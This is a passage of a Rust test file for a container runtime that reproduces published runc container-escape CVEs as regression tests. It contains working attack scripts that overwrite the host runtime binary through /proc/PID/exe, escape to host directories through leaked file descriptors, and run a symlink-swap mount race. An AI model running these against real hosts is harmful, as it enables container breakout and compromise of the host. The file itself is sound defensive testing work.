//! Regression tests for published container-runtime CVEs (most of them runc's).
//!
//! Each test runs the attack of one CVE against the runtime under test, from
//! inside a container where the CVE's attacker sits, and asserts what would
//! go wrong on a vulnerable runtime: a host file changed, a host path reached,
//! a host directory became the working directory, a capability was gained.
//! Where a CVE cannot apply to hull's design the attack still runs, and the
//! test's doc comment says why it cannot apply.
//!
//! The attacks are made as harmless as they can be while still failing on a
//! vulnerable runtime: writes to the runtime binary append instead of
//! truncating, probes that could escape only read, and nothing is written
//! under the host's /sys/fs/cgroup.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use hull_integration::host::{mounts_mentioning, wait_until};
use hull_integration::{is_hull, json, runtime_bin, skip, Bundle, Output, Runtime};

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// Contents of a directory tree, for "unchanged" checks: relative path →
/// file contents, "<dir>", or "-> target" for symlinks.
fn tree(dir: &Path) -> BTreeMap<String, String> {
    fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        let mut entries: Vec<_> = fs::read_dir(dir)
            .unwrap_or_else(|e| panic!("read_dir {}: {e}", dir.display()))
            .map(|e| e.unwrap().path())
            .collect();
        entries.sort();
        for path in entries {
            let rel = path
                .strip_prefix(base)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let meta = fs::symlink_metadata(&path).unwrap();
            if meta.file_type().is_symlink() {
                let target = fs::read_link(&path).unwrap();
                out.insert(rel, format!("-> {}", target.display()));
            } else if meta.is_dir() {
                out.insert(rel, "<dir>".to_owned());
                walk(base, &path, out);
            } else {
                let bytes = fs::read(&path).unwrap_or_default();
                out.insert(rel, String::from_utf8_lossy(&bytes).into_owned());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

/// A host directory a runtime must not touch: holds one marker file.
struct HostTarget {
    path: PathBuf,
    before: BTreeMap<String, String>,
}

impl HostTarget {
    fn new(rt: &Runtime, label: &str) -> HostTarget {
        let path = rt.dir(label);
        fs::write(path.join("marker"), "host data, must stay as it is\n").unwrap();
        HostTarget {
            before: tree(&path),
            path,
        }
    }

    fn path_str(&self) -> &str {
        self.path.to_str().unwrap()
    }

    /// A relative symlink text that climbs out of any rootfs to this target.
    fn relative_link(&self) -> String {
        format!(
            "{}{}",
            "../".repeat(24),
            self.path_str().trim_start_matches('/')
        )
    }

    /// Problems found on the host: changed contents, or a mount on or below it.
    fn problems(&self, context: &str) -> Vec<String> {
        let mut problems = Vec::new();
        let now = tree(&self.path);
        if now != self.before {
            problems.push(format!(
                "{context}: host directory {} changed: before {:?}, after {:?}",
                self.path.display(),
                self.before,
                now
            ));
        }
        let mounts = mounts_mentioning(&self.path);
        if !mounts.is_empty() {
            problems.push(format!(
                "{context}: host mounts on {}: {mounts:?}",
                self.path.display()
            ));
        }
        problems
    }
}

#[track_caller]
fn assert_no_problems(problems: &[String]) {
    assert!(
        problems.is_empty(),
        "{} problem(s):\n\n{}",
        problems.len(),
        problems.join("\n\n")
    );
}

/// Capabilities of the default spec plus `extra`, in bounding/effective/permitted.
fn add_caps(bundle: &mut Bundle, extra: &[&str]) {
    for set in ["bounding", "effective", "permitted"] {
        let pointer = format!("/process/capabilities/{set}");
        for cap in extra {
            bundle.push(&pointer, *cap);
        }
    }
}

/// Copies the shared libraries the runtime binary needs (per `ldd`) into the
/// rootfs at their host paths, as any distribution image would have them, so
/// that the runtime binary can actually run inside the container.
fn install_runtime_libraries(bundle: &Bundle) {
    let out = Command::new("ldd")
        .arg(runtime_bin())
        .output()
        .expect("run ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or "/lib64/ld-linux-x86-64.so.2 (0x...)"
        let path = match line.split_once("=>") {
            Some((_, rest)) => rest.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let dest = bundle.rootfs().join(path.trim_start_matches('/'));
        fs::create_dir_all(dest.parent().unwrap()).unwrap();
        if !dest.exists() {
            fs::copy(path, &dest).unwrap_or_else(|e| panic!("copy {path}: {e}"));
        }
    }
}

/// A host process started by the test; killed (by its own handle) and reaped on drop.
struct Background(Child);

impl Background {
    /// Waits up to `timeout` for the process to exit.
    fn wait(&mut self, timeout: Duration) -> bool {
        wait_until(timeout, || matches!(self.0.try_wait(), Ok(Some(_))))
    }
}

impl Drop for Background {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A pipe whose buffer is already full: a process writing to the write end
/// blocks until the read end is drained or closed. Returns (read, write).
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let (r, w) = nix::unistd::pipe().expect("pipe");
    let fd = w.as_raw_fd();
    // SAFETY: fcntl and write on a pipe we own.
    unsafe {
        let flags = libc::fcntl(fd, libc::F_GETFL);
        assert!(libc::fcntl(fd, libc::F_SETFL, flags | libc::O_NONBLOCK) == 0);
        let chunk = [b'.'; 4096];
        while libc::write(fd, chunk.as_ptr().cast(), chunk.len()) > 0 {}
        while libc::write(fd, chunk.as_ptr().cast(), 1) > 0 {}
        assert!(libc::fcntl(fd, libc::F_SETFL, flags) == 0);
    }
    (r, w)
}

/// Runtime command configuration that hands the runtime `dir`, opened as a
/// directory, at fd `at` *without* close-on-exec: what a careless caller
/// (a shim, a shell, a supervisor) may leak to the runtime it starts.
fn leaking_dir(dir: &Path, at: RawFd) -> impl FnOnce(&mut Command) {
    let file = File::open(dir).unwrap_or_else(|e| panic!("open {}: {e}", dir.display()));
    // Park it at a high fd so that placing it at `at` cannot clobber anything.
    // SAFETY: F_DUPFD_CLOEXEC returns a new descriptor that we own.
    let parked = unsafe { libc::fcntl(file.as_raw_fd(), libc::F_DUPFD_CLOEXEC, 100) };
    assert!(parked >= 100, "F_DUPFD_CLOEXEC failed");
    // SAFETY: parked is open and owned by nothing else.
    let parked = unsafe { OwnedFd::from_raw_fd(parked) };
    move |cmd: &mut Command| {
        // SAFETY: only dup2 (async-signal-safe) runs between fork and exec.
        unsafe {
            cmd.pre_exec(move || {
                if libc::dup2(parked.as_raw_fd(), at) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
}

/// Shell snippet reporting whether the process's working directory is inside
/// its root: walking up with ".." from inside a root stops at the root, from
/// a directory outside it reaches the host's "/" instead. Only reads.
const WHERE_IS_CWD: &str = r#"echo "cwd=$(readlink /proc/self/cwd)"
up=../../../../../../../../../../../../../../../../../../../../../../..
if [ "$(stat -c %d:%i $up)" = "$(stat -c %d:%i /)" ]; then echo INSIDE; else echo ESCAPED; ls $up; fi"#;

/// Value of a `Cap*:` line of /proc/PID/status output, as a number.
fn cap_field(out: &str, name: &str) -> Option<u64> {
    out.lines()
        .find_map(|l| l.trim().strip_prefix(&format!("{name}:")))
        .and_then(|v| u64::from_str_radix(v.trim(), 16).ok())
}

// ---------------------------------------------------------------------------
// CVE-2019-5736
// ---------------------------------------------------------------------------

/// Shell function for the attacker: `try_write` appends to the file held as
/// fd 3 (append, not truncate, so that a vulnerable binary stays runnable),
/// retrying while the file is busy (ETXTBSY: something still executes it,
/// e.g. a runtime command of a test running in parallel), and prints WROTE
/// or the final error.
const TRY_WRITE: &str = r#"try_write() {
  i=0
  while [ $i -lt 200 ]; do
    if err=$( (echo pwned >> /proc/self/fd/3) 2>&1 ); then echo WROTE; return; fi
    case "$err" in *busy*) sleep 0.05; i=$((i+1));; *) break;; esac
  done
  echo "WRITE-FAILED: $err"
}
"#;

/// Runs `script` as a *detached* exec'd process whose output goes to
/// `sig`/out (bind-mounted at /sig): no runtime process stays on the host
/// for the attacker, so none keeps a host binary busy while it writes.
fn exec_detached_attacker(rt: &Runtime, id: &str, script: &str) {
    // A subshell, so that `exit` in the script still reaches the mv.
    let wrapped =
        format!("(\n{TRY_WRITE}\n{script}\n) > /sig/out.tmp 2>&1; mv /sig/out.tmp /sig/out");
    rt.exec(id, &["--detach"], &["sh", "-c", &wrapped]).ok();
}

/// Waits for the attacker's report in `sig`/out.
fn attacker_report(sig: &Path) -> String {
    let out = sig.join("out");
    wait_until(Duration::from_secs(40), || out.exists());
    fs::read_to_string(&out).unwrap_or_else(|_| "(no report from the attacker)".into())
}

/// Attack of a process exec'd into a *created* container on the waiting
/// init: grab /proc/1/exe while the runtime code runs as pid 1, let `start`
/// replace it by the container program, then reopen the grabbed file for
/// writing. Returns the attacker's report and whether `start` succeeded.
fn attack_waiting_init(rt: &Runtime, extra_caps: &[&str]) -> (String, bool) {
    let sig = rt.dir("sig");
    let mut bundle = rt.bundle();
    add_caps(&mut bundle, extra_caps);
    bundle.args(&["sleep", "600"]).bind(&sig, "/sig", false);
    let id = rt.new_id();
    rt.create(&bundle, &id, &[]).ok();
    assert_eq!(rt.status(&id), "created");

    exec_detached_attacker(
        rt,
        &id,
        r#"echo "exe=$(readlink /proc/1/exe 2>&1)"
# Direct writes while the runtime still runs as pid 1.
if (echo pwned > /proc/1/exe) 2>/dev/null; then echo WROTE-DIRECT; fi
if (exec 3>/proc/1/exe) 2>/dev/null; then echo WROTE-DIRECT; fi
# Keep a read-only handle on whatever file pid 1 runs.
if ! (exec 3</proc/1/exe) 2>/dev/null; then echo NO-HANDLE; exit 0; fi
exec 3</proc/1/exe
echo HANDLE
touch /sig/go
i=0
while [ "$(cat /proc/1/comm)" != sleep ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
echo "init=$(cat /proc/1/comm)"
# pid 1 now runs the container program: nothing runs the runtime's file any
# more, so a host binary would open for writing now.
try_write"#,
    );
    let go = sig.join("go");
    let out = sig.join("out");
    wait_until(Duration::from_secs(40), || go.exists() || out.exists());
    let started = go.exists() && rt.start(&id).success();
    (attacker_report(&sig), started)
}

/// Attack through a `#!/proc/self/exe` script run with `RUNTIME exec`: the
/// kernel starts the interpreter from the exe of the process that execs the
/// script, i.e. the runtime's own binary, now as a dumpable process inside
/// the container. Its stdout/stderr is a full pipe, so it blocks on its first
/// write and stays put while the attacker (a detached exec'd process) grabs
/// its exe, kills it, and reopens the file for writing. The /evil exec is
/// detached too, so that the runtime hands the pipe itself to the process
/// (runc relays the stdio of a foreground exec through pipes of its own)
/// and no runtime process stays on the host.
fn attack_shebang_exec(rt: &Runtime) -> String {
    let sig = rt.dir("sig");
    let mut bundle = rt.bundle();
    install_runtime_libraries(&bundle);
    let evil = bundle.write_file("evil", "#!/proc/self/exe\n");
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).unwrap();
    bundle.bind(&sig, "/sig", false);
    let id = rt.start_sleeper(&mut bundle);

    let (read_end, write_end) = full_pipe();
    let child = Command::new(runtime_bin())
        .arg("--root")
        .arg(rt.root())
        .args(["exec", "--detach", &id, "/evil"])
        .stdin(Stdio::null())
        .stdout(Stdio::from(write_end.try_clone().unwrap()))
        .stderr(Stdio::from(write_end))
        .spawn()
        .expect("spawn exec of /evil");
    let mut evil_exec = Background(child);

    exec_detached_attacker(
        rt,
        &id,
        r#"pid=
i=0
while [ -z "$pid" ] && [ $i -lt 200 ]; do
  for d in /proc/[0-9]*; do
    if [ "$(tr '\000' ' ' < $d/cmdline 2>/dev/null)" = "/proc/self/exe /evil " ]; then pid=${d#/proc/}; break; fi
  done
  [ -n "$pid" ] || { sleep 0.05; i=$((i+1)); }
done
[ -n "$pid" ] || { echo NOT-FOUND; ps -o pid,comm; exit 0; }
echo FOUND
echo "exe=$(readlink /proc/$pid/exe 2>&1)"
if (echo pwned > /proc/$pid/exe) 2>/dev/null; then echo WROTE-DIRECT; fi
if ! (exec 3</proc/$pid/exe) 2>/dev/null; then echo NO-HANDLE; kill -9 $pid; exit 0; fi
exec 3</proc/$pid/exe
echo HANDLE
kill -9 $pid
try_write"#,
    );
    let report = attacker_report(&sig);
    // Unblocks the /evil process if the attacker did not kill it.
    drop(read_end);
    evil_exec.wait(Duration::from_secs(10));
    report
}

/// CVE-2019-5736: a container process overwrites the host's runtime binary
/// through /proc/PID/exe of a runtime process that entered the container.
///
/// The original attack: the image's /bin/sh is `#!/proc/self/exe`, so
/// `runc exec CTR /bin/sh` makes the kernel run the runc binary again inside
/// the container; a container process opens /proc/PID/exe of it (read-only
/// or O_PATH is enough), waits for it to exit (a running binary cannot be
/// opened for writing: ETXTBSY) and reopens the handle via /proc/self/fd/N
/// for writing — the *host* runc binary, run as root next time.
///
/// Hull runs every create/run/exec from a sealed memfd copy of itself, so
/// any /proc/PID/exe of a hull process is an anonymous, write-sealed file,
/// and its processes are non-dumpable until they exec the container program.
/// The test runs three attacks and then compares the host binary byte for byte:
///
/// 1. the waiting init of a *created* container (runtime code as pid 1),
///    attacked by an exec'd process with the default capabilities: for hull
///    it must not even get a handle on /proc/1/exe (non-dumpable);
/// 2. the same with CAP_SYS_PTRACE (which overrides non-dumpability): the
///    handle is now obtained, so /proc/1/exe must not be the host binary
///    (for hull: "memfd:" in readlink) and writing it must fail, also after
///    `start` made pid 1 exec the container program;
/// 3. the shebang attack above with `RUNTIME exec`. The image gets the
///    runtime's shared libraries (as any distribution image has them), so the
///    binary does run in the container; its output is a full pipe, so it
///    blocks deterministically while the attacker grabs and kills it.
///
/// The attackers run detached (their output goes to a bind-mounted host
/// directory), so that no runtime process of theirs keeps a host binary busy;
/// a write failing with ETXTBSY is retried. A vulnerable runtime fails on the
/// host path in /proc/PID/exe, on WROTE, and on the changed host binary.
#[test]
fn cve_2019_5736_runtime_binary_not_writable_from_container() {
    let Some(rt) = Runtime::new("cve-2019-5736") else {
        return;
    };
    let bin = fs::canonicalize(runtime_bin()).unwrap();
    let bin_str = bin.to_string_lossy().into_owned();
    let original = fs::read(&bin).expect("read the runtime binary");
    let mut problems = Vec::new();

    // A handle on the runtime's exe, if the attacker got one, must not be the
    // host binary and must not be writable.
    let check = |label: &str, report: &str, problems: &mut Vec<String>| {
        eprintln!("--- {label}: the attacker reports:\n{report}");
        let lines: Vec<&str> = report.lines().collect();
        let exe = lines
            .iter()
            .find_map(|l| l.strip_prefix("exe="))
            .unwrap_or_default();
        for bad in ["WROTE-DIRECT", "WROTE"] {
            if lines.contains(&bad) {
                problems.push(format!(
                    "{label}: {bad}: a runtime exe was opened for writing:\n{report}"
                ));
            }
        }
        if exe.contains(&bin_str) {
            problems.push(format!(
                "{label}: the runtime process runs the host binary {exe}:\n{report}"
            ));
        }
        if lines.contains(&"HANDLE") {
            // hull runs from a detached read-only overlay of its directory
            // (the exe reads "/NAME") or, where it cannot mount one, from
            // a sealed memfd copy.
            let overlay_view = format!("/{}", bin.file_name().unwrap().to_string_lossy());
            if is_hull() && !exe.contains("memfd:") && exe != overlay_view {
                problems.push(format!(
                    "{label}: the exe of a hull process is not its protected view:\n{report}"
                ));
            }
            if !report.contains("WRITE-FAILED") {
                problems.push(format!(
                    "{label}: the write attempt did not fail:\n{report}"
                ));
            }
        }
    };

    // 1. Default capabilities.
    let (report, _) = attack_waiting_init(&rt, &[]);
    check("created init, default caps", &report, &mut problems);
    if is_hull() && !report.lines().any(|l| l == "NO-HANDLE") {
        problems.push(format!(
            "created init, default caps: the waiting hull init is not protected by non-dumpability:\n{report}"
        ));
    }

    // 2. With CAP_SYS_PTRACE the handle is obtained.
    let (report, started) = attack_waiting_init(&rt, &["CAP_SYS_PTRACE"]);
    check("created init, CAP_SYS_PTRACE", &report, &mut problems);
    if !report.lines().any(|l| l == "HANDLE") || !started || !report.contains("init=sleep") {
        problems.push(format!(
            "created init, CAP_SYS_PTRACE: no handle, or pid 1 never exec'd the program (started: {started}); test not meaningful:\n{report}"
        ));
    }

    // 3. `#!/proc/self/exe` run with exec.
    let report = attack_shebang_exec(&rt);
    check("#!/proc/self/exe via exec", &report, &mut problems);
    if !report.lines().any(|l| l == "FOUND") {
        problems.push(format!(
            "#!/proc/self/exe via exec: the runtime binary never ran in the container (test not meaningful):\n{report}"
        ));
    }

    let after = fs::read(&bin).expect("read the runtime binary");
    if after != original {
        problems.push(format!(
            "THE HOST RUNTIME BINARY {bin_str} WAS MODIFIED ({} -> {} bytes)",
            original.len(),
            after.len()
        ));
    }
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2024-21626
// ---------------------------------------------------------------------------

/// CVE-2024-21626 ("Leaky Vessels"): runc leaked a file descriptor of the
/// host's /sys/fs/cgroup into `runc init`; process.cwd (or `exec --cwd`) set
/// to /proc/self/fd/N made the container process start with a host
/// directory as its working directory, and `process.args[0]` =
/// /proc/self/fd/N/../../bin/sh ran a host binary. Either way the container
/// walks ".." to the host's / as root.
///
/// The chdir and the execve happen in the runtime's process while its own
/// descriptors are still open: close-on-exec closes them only *after* the
/// execve. So any directory descriptor open in the runtime at that point is
/// an escape, whether the runtime opened it or its caller leaked it. The
/// test checks, for N in 3..=9:
///
/// 1. `exec --cwd /proc/self/fd/N` and process.cwd = /proc/self/fd/N with only
///    the runtime's own descriptors: must fail (or at least not escape);
/// 2. the same while the caller leaks a host directory at fd N (not
///    close-on-exec): must fail or leave the process inside its root;
/// 3. `exec /proc/self/fd/N/busybox` and process.args[0] of that form with the
///    leaked directory holding a busybox: no host binary may run;
/// 4. the container process itself only ever has fds 0, 1, 2 (run and exec,
///    with the leaked descriptors present).
///
/// A working directory outside the root is detected by walking ".." (only
/// reads): from inside, it stops at the container's /.
#[test]
fn cve_2024_21626_no_host_directory_as_cwd() {
    let Some(rt) = Runtime::new("cve-2024-21626") else {
        return;
    };
    let mut problems = Vec::new();
    let leaked = rt.dir("leaked");
    fs::write(leaked.join("marker"), "host directory\n").unwrap();
    let host_busybox = ["/bin/busybox", "/usr/bin/busybox"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .expect("busybox on the host");
    fs::copy(&host_busybox, leaked.join("busybox")).unwrap();

    let mut bundle = rt.bundle();
    let id = rt.start_sleeper(&mut bundle);

    // Judges one attempt: failure is fine; success must not have escaped.
    let judge = |label: String, out: Output, problems: &mut Vec<String>| {
        let escaped = out.stdout.contains("ESCAPED");
        if escaped || (out.success() && !out.lines().contains(&"INSIDE")) {
            problems.push(format!(
                "{label}: the process started outside its root:\n{out}"
            ));
        }
    };

    for n in 3..=9 {
        let cwd = format!("/proc/self/fd/{n}");
        // 1. Only the runtime's own descriptors.
        let out = rt.exec(&id, &["--cwd", &cwd], &["sh", "-c", WHERE_IS_CWD]);
        if out.success() {
            problems.push(format!("exec --cwd {cwd} succeeded:\n{out}"));
        }
        judge(format!("exec --cwd {cwd}"), out, &mut problems);

        let mut b = rt.bundle();
        b.set("/process/cwd", cwd.as_str()).sh(WHERE_IS_CWD);
        let out = rt.run(&b, &rt.new_id(), &[]);
        judge(format!("process.cwd {cwd}"), out, &mut problems);

        // 2. A host directory leaked by the caller at fd N.
        let out = rt.cmd_with(
            &["exec", "--cwd", &cwd, &id, "sh", "-c", WHERE_IS_CWD],
            leaking_dir(&leaked, n),
        );
        judge(
            format!("exec --cwd {cwd}, caller leaked a host dir at fd {n}"),
            out,
            &mut problems,
        );

        let mut b = rt.bundle();
        b.set("/process/cwd", cwd.as_str()).sh(WHERE_IS_CWD);
        let out = rt.run_with(&b, &rt.new_id(), &[], leaking_dir(&leaked, n));
        judge(
            format!("process.cwd {cwd}, caller leaked a host dir at fd {n}"),
            out,
            &mut problems,
        );

        // 3. A host binary through the leaked directory.
        let prog = format!("/proc/self/fd/{n}/busybox");
        let out = rt.cmd_with(
            &["exec", &id, &prog, "echo", "HOST-BINARY-RAN"],
            leaking_dir(&leaked, n),
        );
        if out.stdout.contains("HOST-BINARY-RAN") {
            problems.push(format!(
                "exec {prog}: a host binary ran in the container:\n{out}"
            ));
        }
        let mut b = rt.bundle();
        b.args(&[&prog, "echo", "HOST-BINARY-RAN"]);
        let out = rt.run_with(&b, &rt.new_id(), &[], leaking_dir(&leaked, n));
        if out.stdout.contains("HOST-BINARY-RAN") {
            problems.push(format!(
                "process.args[0] {prog}: a host binary ran in the container:\n{out}"
            ));
        }
    }

    // 4. Only stdio reaches the container process (the shell's own fds;
    // `true` keeps sh from exec'ing ls in its place).
    let list = "ls /proc/$$/fd; true";
    let mut b = rt.bundle();
    b.sh(list);
    let out = rt.run_with(&b, &rt.new_id(), &[], leaking_dir(&leaked, 5));
    if out.lines() != ["0", "1", "2"] {
        problems.push(format!(
            "run: fds other than stdio reached the container:\n{out}"
        ));
    }
    let out = rt.cmd_with(&["exec", &id, "sh", "-c", list], leaking_dir(&leaked, 5));
    if out.lines() != ["0", "1", "2"] {
        problems.push(format!(
            "exec: fds other than stdio reached the container:\n{out}"
        ));
    }
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2019-19921 and CVE-2021-30465
// ---------------------------------------------------------------------------

/// Runs a container whose image has `links` (path in rootfs → link text) and
/// the given mounts, and checks from inside that each `expect` path (as seen
/// in the container) is a mount point of type `fstype`.
fn mount_through_symlinks(
    rt: &Runtime,
    label: &str,
    links: &[(&str, String)],
    mounts: &[(&str, &str, &str, &[&str])],
    expect: &[(String, &str)],
) -> Vec<String> {
    let mut bundle = rt.bundle();
    for (path, target) in links {
        let link = bundle.rootfs().join(path.trim_start_matches('/'));
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        symlink(target, &link).unwrap();
    }
    for (dest, kind, source, options) in mounts {
        bundle.mount(dest, kind, source, options);
    }
    bundle.sh(r#"awk '{ split($0, a, " - "); split(a[2], b, " "); print $5, b[1] }' /proc/self/mountinfo"#);
    let out = rt.run(&bundle, &rt.new_id(), &[]);
    if !out.success() {
        return vec![format!("{label}: the container did not run:\n{out}")];
    }
    let mut problems = Vec::new();
    for (path, fstype) in expect {
        let line = format!("{path} {fstype}");
        if !out.lines().contains(&line.as_str()) {
            problems.push(format!(
                "{label}: no {fstype} mount at {path} inside the container (did it land outside the rootfs?):\n{out}"
            ));
        }
    }
    problems
}

/// CVE-2019-19921: a mount destination that is a symlink in the image (or,
/// in the original race, was swapped for one through a shared volume) made
/// runc mount outside the container's rootfs: a symlink is followed on the
/// host, where its absolute target or its ".." components lead anywhere.
///
/// Here the image has symlinks to a host directory (absolute, and relative
/// with enough "../" to climb out of any rootfs), and the config mounts a
/// tmpfs and a bind of a host volume on them. The destinations must be
/// resolved inside the rootfs, symlinks re-rooted: the mounts appear inside
/// the container at the link target's path *in the container*, and the host
/// directory keeps its contents and gets no mount. A vulnerable runtime
/// mounts over the host directory in the container's mount namespace (gone
/// from view after pivot_root: the inside check fails) or creates
/// directories in it (the host check fails).
#[test]
fn cve_2019_19921_symlinked_mount_destination_stays_in_rootfs() {
    let Some(rt) = Runtime::new("cve-2019-19921") else {
        return;
    };
    let target = HostTarget::new(&rt, "host-target");
    let volume = rt.dir("volume");
    fs::write(volume.join("from-volume"), "volume\n").unwrap();
    let volume = volume.to_str().unwrap().to_owned();
    let t = target.path_str().to_owned();
    let mut problems = Vec::new();

    for (form, link) in [
        ("absolute", t.clone()),
        ("relative", target.relative_link()),
    ] {
        problems.extend(mount_through_symlinks(
            &rt,
            &format!("tmpfs on {form} symlink"),
            &[("/evil", link.clone())],
            &[("/evil", "tmpfs", "tmpfs", &["size=1m"])],
            &[(t.clone(), "tmpfs")],
        ));
        let fs_type = fs_type_of(Path::new(&volume));
        problems.extend(mount_through_symlinks(
            &rt,
            &format!("bind on {form} symlink"),
            &[("/data/evil", link.clone())],
            &[("/data/evil", "bind", &volume, &["rbind", "rw"])],
            &[(t.clone(), fs_type.as_str())],
        ));
        problems.extend(target.problems(&format!("{form} symlink")));
    }
    assert_no_problems(&problems);
}

/// Filesystem type of the mount holding `path` (from the test's mountinfo).
fn fs_type_of(path: &Path) -> String {
    let info = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let mut best: (usize, String) = (0, String::new());
    for line in info.lines() {
        let (per_mount, per_sb) = line.split_once(" - ").unwrap();
        let point = per_mount.split_whitespace().nth(4).unwrap();
        if path.starts_with(point) && point.len() >= best.0 {
            best = (
                point.len(),
                per_sb.split_whitespace().next().unwrap().to_owned(),
            );
        }
    }
    best.1
}

/// CVE-2021-30465: runc resolved mount destinations safely, then mounted by
/// *path*; a container sharing a volume with the victim swapped a directory
/// on the path for a symlink between the two steps (symlink-exchange race),
/// and the mount followed the symlink out of the rootfs.
///
/// Two parts:
///
/// 1. deterministic: an *intermediate* component of the destination is a
///    symlink to a host directory (absolute, relative, and a link to such a
///    link); the mounts must appear inside the container under the re-rooted
///    path, and nothing may be created in or mounted on the host directory
///    (a vulnerable runtime creates `sub` there while making the mount point);
/// 2. the race: an attacker container loops replacing `/vol/a` (in a volume it
///    shares with the victim) by a directory, an absolute and a relative
///    symlink to the host directory, while victims mounting a tmpfs at
///    /vol/a/dst are created over and over. Victims may fail; the host
///    directory must stay unchanged and unmounted.
///
/// Hull resolves each destination component by component from a descriptor of
/// the rootfs and mounts on the resulting descriptor, so there is no window
/// between check and use for the race to hit.
#[test]
fn cve_2021_30465_mount_destination_race_stays_in_rootfs() {
    let Some(rt) = Runtime::new("cve-2021-30465") else {
        return;
    };
    let target = HostTarget::new(&rt, "host-target");
    let t = target.path_str().to_owned();
    let mut problems = Vec::new();

    // 1. Symlinked intermediate directories.
    problems.extend(mount_through_symlinks(
        &rt,
        "intermediate symlinks",
        &[
            ("/absdir", t.clone()),
            ("/reldir", target.relative_link()),
            ("/deep/chain", "../absdir".to_owned()),
        ],
        &[
            ("/absdir/sub", "tmpfs", "tmpfs", &["size=1m"]),
            ("/reldir/sub2/x", "tmpfs", "tmpfs", &["size=1m"]),
            ("/deep/chain/sub3", "tmpfs", "tmpfs", &["size=1m"]),
        ],
        &[
            (format!("{t}/sub"), "tmpfs"),
            (format!("{t}/sub2/x"), "tmpfs"),
            (format!("{t}/sub3"), "tmpfs"),
        ],
    ));
    problems.extend(target.problems("intermediate symlinks"));

    // 2. The race, through a volume shared with an attacker container.
    let volume = rt.dir("volume");
    let mut attacker = rt.bundle();
    attacker.bind(&volume, "/vol", false).sh(&format!(
        "while :; do rm -rf /vol/a; mkdir -p /vol/a/dst; rm -rf /vol/a; ln -s {t} /vol/a; \
         rm -f /vol/a; ln -s {rel} /vol/a; done",
        rel = target.relative_link()
    ));
    let attacker_id = rt.new_id();
    rt.create(&attacker, &attacker_id, &[]).ok();
    rt.start(&attacker_id).ok();

    let mut ran = 0;
    let deadline = Instant::now() + Duration::from_secs(40);
    for _ in 0..25 {
        if Instant::now() > deadline {
            break;
        }
        let mut victim = rt.bundle();
        victim
            .bind(&volume, "/vol", false)
            .mount("/vol/a/dst", "tmpfs", "tmpfs", &["size=1m"])
            .sh("true");
        if rt.run(&victim, &rt.new_id(), &[]).success() {
            ran += 1;
        }
        problems.extend(target.problems("race"));
        if !problems.is_empty() {
            break;
        }
    }
    eprintln!("race: {ran} victim containers ran");
    assert_eq!(rt.status(&attacker_id), "running", "the attacker loop died");
    rt.delete_force(&attacker_id);
    problems.extend(target.problems("after the race"));
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2023-27561 (and its variant CVE-2023-28642)
// ---------------------------------------------------------------------------

/// CVE-2023-27561 (a regression of CVE-2019-19921) and CVE-2023-28642: an
/// image whose /proc is a symlink made runc mount procfs wherever the link
/// pointed (to /tmp in the container, or — resolved on the host — anywhere),
/// leaving the container's /proc a plain directory of the image: LSM labels
/// and other runtime writes to /proc then go to attacker files (AppArmor /
/// SELinux bypass).
///
/// Hull refuses proc and sysfs destinations that are symlinks. The test
/// creates containers whose rootfs /proc (and /sys) is a symlink to /tmp, to
/// an absolute host path and to a relative path climbing to it: `create` must
/// fail with one line mentioning proc (sys), leave nothing behind, and the
/// host directory must be unchanged and unmounted. A vulnerable runtime
/// succeeds.
#[test]
fn cve_2023_27561_proc_symlink_in_image_is_refused() {
    let Some(rt) = Runtime::new("cve-2023-27561") else {
        return;
    };
    let target = HostTarget::new(&rt, "host-target");
    let mut problems = Vec::new();
    for (dir, needle) in [("proc", "proc"), ("sys", "sys")] {
        for link in [
            "/tmp".to_owned(),
            target.path_str().to_owned(),
            target.relative_link(),
        ] {
            let mut bundle = rt.bundle();
            bundle.args(&["sleep", "600"]);
            let path = bundle.rootfs().join(dir);
            fs::remove_dir(&path).unwrap();
            symlink(&link, &path).unwrap();
            rt.create_rejected(&bundle, &rt.new_id())
                .fails_mentioning(needle);
            problems.extend(target.problems(&format!("/{dir} -> {link}")));
        }
    }
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2019-16884
// ---------------------------------------------------------------------------

/// CVE-2019-16884: a mount over /proc (a volume of the image, or a bind in the
/// config) put a fake /proc under the container, so the AppArmor profile runc
/// wrote to /proc/self/attr/exec went into a plain file: the container ran
/// unconfined. Hull has no LSM support on this host, so the attr path itself
/// cannot apply; the same mistake applies to every value the runtime writes
/// under /proc inside the container, and hull writes linux.sysctl there.
///
/// With sysctl net.ipv4.ip_forward=1 (in a new network namespace), the test
/// covers /proc with fake trees: a host directory bound over /proc after the
/// real proc mount, a host directory bound over /proc/sys, a tmpfs over
/// /proc/sys, and an image whose /proc is a plain directory with the sysctl
/// file in it (no proc mount, writable root). The runtime must refuse to
/// write (hull checks that /proc/sys is procfs first): create fails for the
/// mounted fakes, and no fake file changes. A vulnerable runtime writes "1"
/// into the fake ip_forward (on the host for the binds). runc 1.1 refuses
/// the mounts over /proc but writes sysctls into an image's plain /proc
/// directory (its fix covered only the LSM attr files), so that last case is
/// only asserted for hull.
#[test]
